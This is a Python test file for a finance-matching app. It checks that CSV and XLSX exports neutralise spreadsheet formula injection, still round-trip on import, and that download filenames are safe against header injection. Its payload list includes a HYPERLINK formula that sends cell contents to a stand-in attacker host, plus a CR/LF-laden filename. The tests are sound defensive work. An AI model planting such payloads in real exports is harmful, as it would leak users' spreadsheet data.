"""Formula-safe exports (every CSV/XLSX path) that round-trip, and RFC 5987 download names."""

from __future__ import annotations

import csv
import io
from urllib.parse import unquote

import pytest
from openpyxl import load_workbook

from api.downloads import content_disposition
from finmatch.io import import_read, read_upload, to_csv, to_xlsx
from finmatch.io.formula import neutralise, restore
from finmatch.schemas import Document
from finmatch.storage import Repository
from tests.storage.sample_doc import small_document

EVIL = ['=HYPERLINK("http://evil.example/?x="&A2,"点击查看")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]


def _doc() -> Document:
    raw = small_document()
    raw["products"][0]["name"] = EVIL[0]
    raw["products"][0]["description"] = EVIL[1]
    raw["products"][1]["kind"] = EVIL[3]
    return Document.model_validate(raw)


def test_neutralise_and_restore_are_inverse() -> None:
    for text in [*EVIL, "普通文本", "'=already", "'plain"]:
        assert restore(neutralise(text)) == text
        assert not str(neutralise(text)).startswith(("=", "+", "-", "@", "\t", "\r"))
    assert neutralise(-5) == -5  # numbers are numbers


def test_csv_and_xlsx_exports_carry_no_formulas_and_round_trip(database) -> None:
    doc = _doc()
    text = to_csv("products", doc.products, chinese=True)
    cells = [c for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for c in row]
    assert not any(c.startswith(("=", "+", "-", "@")) for c in cells)
    book = to_xlsx(doc)
    wb = load_workbook(io.BytesIO(book))
    assert all(c.data_type != "f" for ws in wb.worksheets for row in ws.iter_rows() for c in row)
    import_read(read_upload("catalogue.xlsx", book), database.factory)
    with database.factory() as s:
        assert Repository(s).get("products", doc.products[0].product_id).name == EVIL[0]  # type: ignore[union-attr]
    import_read(read_upload("products.csv", text.encode("utf-8")), database.factory)
    with database.factory() as s:
        stored = Repository(s).get("products", doc.products[0].product_id)
        assert stored.name == EVIL[0] and stored.description == EVIL[1]  # type: ignore[union-attr]
        assert Repository(s).get("products", doc.products[1].product_id).kind == EVIL[3]  # type: ignore[union-attr]


def test_agenda_and_prospect_exports_are_neutralised() -> None:
    from api.pages import views
    from finmatch.scheduling import exports
    from finmatch.scheduling.problem import Agenda, Meeting

    agenda = Agenda(meetings=[Meeting(project_id="XM1", institution_id="I1", slot=0, table=1, score=0.5)],
                    objective=0.5, bound=None, gap=None, solver="greedy", status="ok", solve_seconds=0.0)
    names = {"XM1": EVIL[0], "I1": EVIL[3]}
    rows = list(csv.reader(io.StringIO(exports.agenda_to_csv(agenda, names).lstrip("\ufeff"))))
    cells = [c for row in rows for c in row]
    assert "'" + EVIL[0] in cells and not any(c.startswith(("=", "+", "-", "@")) for c in cells)
    buf = io.BytesIO()
    exports.agenda_to_xlsx(agenda, buf, names)
    wb = load_workbook(io.BytesIO(buf.getvalue()))
    values = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    assert any(c.value == EVIL[0] for c in values) and all(c.data_type != "f" for c in values)
    item = {"rank": 1, "project_id": "XM1", "project_name": EVIL[0], "enterprise_name": EVIL[2], "stage": "pilot",
            "funding_need_wan": 1, "score": 0.5, "probability": 0.5, "reasons": []}
    rows = list(csv.reader(io.StringIO(views.prospects_csv([item]).decode("utf-8-sig"))))
    assert not any(c.startswith(("=", "+", "-", "@")) for row in rows for c in row)
    wb = load_workbook(io.BytesIO(views.prospects_xlsx([item], "t")))
    assert all(c.data_type != "f" for ws in wb.worksheets for row in ws.iter_rows() for c in row)


@pytest.mark.parametrize("name", ["活动-中文.xlsx", "P-中文-1-prospects.csv", 'a"b\r\n.ics', "plain.csv"])
def test_content_disposition_is_latin1_safe_and_exact(name: str) -> None:
    header = content_disposition(name)
    header.encode("latin-1")  # what failed with a 500
    if "filename*=" in header:
        assert unquote(header.split("filename*=UTF-8''")[1]) == name.replace("\r", "").replace("\n", "")
    else:
        assert f'filename="{name}"' in header
    assert "\r" not in header and "\n" not in header
